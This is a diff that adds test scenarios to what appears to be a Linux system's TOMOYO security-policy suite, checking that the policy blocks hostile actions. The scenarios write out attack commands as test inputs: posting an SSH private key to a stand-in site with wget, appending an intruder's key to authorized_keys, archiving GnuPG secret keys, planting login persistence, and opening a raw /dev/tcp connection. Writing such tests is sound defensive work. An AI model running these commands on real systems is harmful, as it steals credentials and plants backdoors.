@@ -57,3 +57,55 @@ Feature: What a person's programs must not do
     Given I am logged in on the text console
     When I try "echo true >> ~/.profile"
     Then TOMOYO refuses "file append /home/amnesia/.profile" to "/usr/bin/bash"
+
+  @task:refused/system-files
+  Scenario: Something that starts at every login by the overlay's other name
+    Given the file "~/.profile" that says "true"
+    And I am logged in on the text console
+    When I try "echo true >> /run/live/overlay/rw/home/amnesia/.profile"
+    Then TOMOYO refuses "file append /run/live/overlay/rw/home/amnesia/.profile" to "/usr/bin/bash"
+
+  @task:refused/system-files
+  Scenario: A way in for somebody else
+    Given the file "~/.ssh/authorized_keys" that says "ssh-ed25519 AAAA alice"
+    And I am logged in on the text console
+    When I try "echo ssh-ed25519 AAAA mallory >> ~/.ssh/authorized_keys"
+    Then TOMOYO refuses "file append /home/amnesia/.ssh/authorized_keys" to "/usr/bin/bash"
+
+  @task:refused/keys
+  Scenario: An archive takes a GnuPG key along by the overlay's other name
+    Given the file "~/.gnupg/private-keys-v1.d/secret.key" that says "a secret key"
+    And I am logged in on the text console
+    When I try "tar -czf papers.tar.gz -C /run/live/overlay/rw/home/amnesia .gnupg"
+    Then TOMOYO refuses "file read /run/live/overlay/rw/home/amnesia/.gnupg/private-keys-v1.d/secret.key" to "/usr/bin/tar"
+
+  @task:refused/keys
+  Scenario: Curl reads a secret SSH key
+    Given the file "~/.ssh/id_ed25519" that says "a secret key"
+    And I am logged in on the text console
+    When I try "curl --silent file:///home/amnesia/.ssh/id_ed25519"
+    Then TOMOYO refuses "file read /home/amnesia/.ssh/id_ed25519" to "/usr/bin/curl"
+
+  @task:refused/keys
+  Scenario: Wget sends a secret SSH key to a site
+    Given a web site "kettle.example" that says "The kettle is on"
+    And the web site "kettle.example" offers the file "/song.txt" that says "short and stout"
+    And the file "~/.ssh/id_ed25519" that says "a secret key"
+    And I am logged in on the text console
+    When I try "wget -q --post-file=.ssh/id_ed25519 https://kettle.example/song.txt"
+    Then TOMOYO refuses "file read /home/amnesia/.ssh/id_ed25519" to "/usr/bin/wget"
+
+  @task:refused/keys
+  Scenario: Git reads a secret SSH key
+    Given the file "~/.ssh/id_ed25519" that says "a secret key"
+    And I am logged in on the text console
+    When I try "git hash-object .ssh/id_ed25519"
+    Then TOMOYO refuses "file read /home/amnesia/.ssh/id_ed25519" to "/usr/bin/git"
+
+  @task:refused/network
+  Scenario: The shell reaches the network by itself
+    Programs that are meant for the network may use it; a shell may start them, and no more.
+    Given a web site "kettle.example" that says "The kettle is on"
+    And I am logged in on the text console
+    When I try ": < /dev/tcp/192.0.2.80/80"
+    Then TOMOYO refuses "network inet stream connect 192.0.2.80 80" to "/usr/bin/bash"
